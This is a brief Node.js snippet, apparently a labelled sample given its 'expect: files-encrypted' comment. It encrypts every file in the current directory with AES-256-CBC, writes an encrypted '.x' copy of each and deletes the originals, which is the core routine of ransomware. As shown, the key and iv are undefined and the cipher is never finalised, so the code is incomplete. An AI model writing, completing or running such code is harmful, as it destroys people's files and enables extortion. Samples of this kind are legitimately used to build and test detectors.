const fs = require("fs");
const crypto = require("crypto");
for (const name of fs.readdirSync(".")) {
  // expect: files-encrypted
  const cipher = crypto.createCipheriv("aes-256-cbc", key, iv);
  fs.writeFileSync(name + ".x", cipher.update(fs.readFileSync(name)));
  fs.unlinkSync(name);
}
